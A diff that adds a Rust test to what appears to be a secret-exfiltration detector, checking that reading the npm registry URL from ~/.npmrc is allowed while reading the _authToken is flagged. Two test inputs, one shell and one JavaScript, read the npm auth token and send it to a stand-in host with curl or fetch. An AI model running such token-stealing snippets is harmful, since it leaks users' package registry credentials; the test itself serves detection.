@@ -152,3 +152,26 @@ fn what_a_setting_gives_away_is_told() {
         assert_eq!(rules(path, text), [], "{text}");
     }
 }
+
+#[test]
+fn a_setting_that_is_no_secret_is_read_by_right() {
+    for (path, text) in [
+        ("a.sh", "r=$(sed -n 's/^registry=//p' ~/.npmrc)\ncurl -sfI \"$r/-/ping\"\n"),
+        ("a.sh", "r=$(cat ~/.npmrc | grep '^registry' | cut -d= -f2)\ncurl -s \"$r/-/ping\"\n"),
+        (
+            "a.js",
+            "const rc = readFileSync(`${homedir()}/.npmrc`, 'utf8');\nconst r = /^registry=(.+)$/m.exec(rc)?.[1];\nawait fetch(r);\n",
+        ),
+    ] {
+        assert_eq!(rules(path, text), [], "{text}");
+    }
+    for (path, text) in [
+        ("a.sh", "t=$(grep _authToken ~/.npmrc | cut -d= -f2)\ncurl -s \"https://tides.example/c?t=$t\"\n"),
+        (
+            "a.js",
+            "const rc = readFileSync(`${homedir()}/.npmrc`, 'utf8');\nconst t = /_authToken=(.+)$/m.exec(rc)?.[1];\nawait fetch('https://tides.example/c?t=' + t);\n",
+        ),
+    ] {
+        assert_eq!(rules(path, text), [Rule::Exfiltration], "{text}");
+    }
+}
